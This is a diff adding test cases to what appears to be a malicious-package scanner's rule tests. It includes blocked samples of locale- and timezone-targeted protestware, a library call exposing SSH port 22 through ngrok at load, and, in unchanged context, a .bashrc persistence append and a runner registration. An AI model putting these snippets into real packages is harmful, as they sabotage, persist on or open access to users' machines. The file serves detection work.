@@ -81,6 +81,24 @@ describeVerdicts("DES-03", {
   },
 });
 
+describeVerdicts("DES-04", {
+  blocks: {
+    "a page that cannot be clicked, for some": `
+      if (navigator.language.startsWith("ru")) {
+        document.body.style.pointerEvents = "none";
+        new Audio("https://media.example.test/a.mp3").play();
+      }`,
+    "files on the desk of some": `
+      const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
+      if (["Europe/A", "Asia/B"].includes(tz)) require("fs").writeFileSync(require("os").homedir() + "/Desktop/STOP.txt", "stop");`,
+  },
+  passes: {
+    "pages in another language": `
+      if (navigator.language.startsWith("de")) location.href = "/de";
+      document.body.style.display = "none";`,
+  },
+});
+
 describeVerdicts("PER-01", {
   blocks: {
     "a shell's start-up file": `require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "x &");`,
@@ -127,11 +145,17 @@ describeVerdicts("PER-03", {
       `require("child_process").execSync("./config.sh --url https://files.example.test/a --token X --unattended && ./run.sh");`,
     ),
     "a tunnel": `require("child_process").spawn("cloudflared", ["tunnel", "run", "x"]);`,
+    "by a library, at load": `
+      const ngrok = require("ngrok");
+      ngrok.connect({ proto: "tcp", addr: 22 }).then((url) => console.log(url));`,
   },
   passes: {
     "a library for tunnels": `exports.open = (port) => require("child_process").spawn("ngrok", ["http", String(port)]);`,
     "a question for the version": `exports.has = () => require("child_process").execFileSync("ngrok", ["--version"]);`,
     "another program": `require("child_process").execSync("git config --get user.name");`,
+    "a library that opens one for its caller": `
+      const localtunnel = require("localtunnel");
+      exports.share = (port) => localtunnel({ port });`,
   },
 });
 
@@ -334,6 +358,22 @@ describeVerdicts("INS-09", {
     "a temporary file": atInstall(
       `require("fs").writeFileSync(require("os").tmpdir() + "/a", "1");`,
     ),
+    "plain hooks of a project that is looked for": {
+      manifest: {
+        name: "sample-hooks",
+        scripts: { postinstall: "node setup.js" },
+        bin: { "sample-hooks": "setup.js" },
+      },
+      files: {
+        "index.js": "",
+        "setup.js": `
+          const fs = require("fs"), path = require("path");
+          let root = process.env.INIT_CWD;
+          while (root !== path.dirname(root) && !fs.existsSync(path.join(root, ".git"))) root = path.dirname(root);
+          const { hooks } = JSON.parse(fs.readFileSync(path.join(root, "package.json"), "utf8"));
+          for (const name of Object.keys(hooks)) fs.writeFileSync(path.join(root, ".git/hooks", name), "#!/bin/sh\\nnpx sample-hooks run " + name + "\\n");`,
+      },
+    },
   },
 });
 
